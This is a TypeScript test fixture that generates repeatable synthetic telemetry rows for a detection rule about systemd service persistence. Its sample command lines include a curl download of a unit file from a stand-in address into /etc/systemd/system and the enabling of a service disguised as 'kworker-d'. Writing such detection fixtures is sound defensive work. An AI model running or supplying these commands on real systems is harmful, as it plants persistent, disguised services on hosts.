import type { AlertRow } from '../src/alert/alert.ts';

/** A generator of numbers that gives the same rows in every run (Park and Miller). */
function numbers(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (state * 48_271) % 2_147_483_647;
    return state % below;
  };
}

const PARENTS =
  'systemd sh bash sudo cron python3.10 php-fpm8.1 java node ruby dpkg apt-get sshd sshd-session containerd-shim'.split(
    ' ',
  );
const ACCOUNTS = 'root root root www-data deploy gitlab-runner dana systemd'.split(' ');
const VERBS = [
  'start',
  'enable --now',
  'restart',
  'status',
  'daemon-reload',
  'is-enabled',
  '--user enable',
  'list-units',
];
const COMMANDS = [
  '/usr/bin/python3.10 /root/.ansible/tmp/ansible-tmp-1763911001.4412-20817-114377725548/AnsiballZ_systemd.py',
  'sh -c systemctl enable --now kworker-d.service 2>&1',
  'cp /tmp/app.service /etc/systemd/system/app.service',
  '-bash',
  '/opt/chef/embedded/bin/ruby --disable-gems /usr/bin/chef-client -c /etc/chef/client.rb',
  'curl -fsSL http://192.0.2.7/unit -o /etc/systemd/system/app.service',
];
const FILES = ['app.service', 'nginx.service', 'app.timer', 'override.conf', '.config'];
const FOLDERS = [
  '/etc/systemd/system',
  '/usr/lib/systemd/system',
  '/home/dana/.config/systemd/user',
  '/var/lib/docker/overlay2/0a/merged/etc/systemd/system',
  '/opt/app',
];

function pick<Item>(items: readonly Item[], next: (below: number) => number): Item {
  const item = items[next(items.length)];
  if (item === undefined) throw new Error('nothing to pick from');
  return item;
}

/** Rows of both tables as they stream in: some are systemctl, some unit files, some hit, most nearly do. */
export function mixedRows(count: number): AlertRow[] {
  const next = numbers(20_261_120);
  return Array.from({ length: count }, () => asReceived(next(3) === 0 ? fileRow(next) : processRow(next)));
}

/** A row as it comes out of a message: strings that are put together here are not laid out like received ones. */
function asReceived(row: AlertRow): AlertRow {
  const columns: Record<string, unknown> = JSON.parse(JSON.stringify(row.columns));
  return { ...row, columns };
}

function common(next: (below: number) => number): Readonly<Record<string, unknown>> {
  return {
    Timestamp: `2026-11-20T0${next(6)}:${10 + next(50)}:${10 + next(50)}.${100 + next(900)}Z`,
    DeviceId: 'c6bbc9fd715fe76cae39ab527fabac6c329716c3',
    DeviceName: `web-${next(50)}.example.com`,
    ReportId: next(100_000),
    InitiatingProcessAccountName: pick(ACCOUNTS, next),
    InitiatingProcessFileName: pick(PARENTS, next),
    InitiatingProcessCommandLine: pick(COMMANDS, next),
    InitiatingProcessParentFileName: pick(PARENTS, next),
    InitiatingProcessId: 1000 + next(60_000),
  };
}

function processRow(next: (below: number) => number): AlertRow {
  const FileName = next(4) === 0 ? pick(PARENTS, next) : 'systemctl';
  return {
    table: 'DeviceProcessEvents',
    source: 'stream',
    columns: {
      ...common(next),
      ActionType: 'ProcessCreated',
      FileName,
      FolderPath: `/usr/bin/${FileName}`,
      AccountName: pick(ACCOUNTS, next),
      ProcessCommandLine: `${FileName} ${pick(VERBS, next)} app-${next(100)}.service`,
      ProcessId: 1000 + next(60_000),
    },
  };
}

function fileRow(next: (below: number) => number): AlertRow {
  const FileName = pick(FILES, next);
  return {
    table: 'DeviceFileEvents',
    source: 'stream',
    columns: {
      ...common(next),
      ActionType: 'FileCreated',
      FileName,
      FolderPath: `${pick(FOLDERS, next)}/${FileName}`,
    },
  };
}
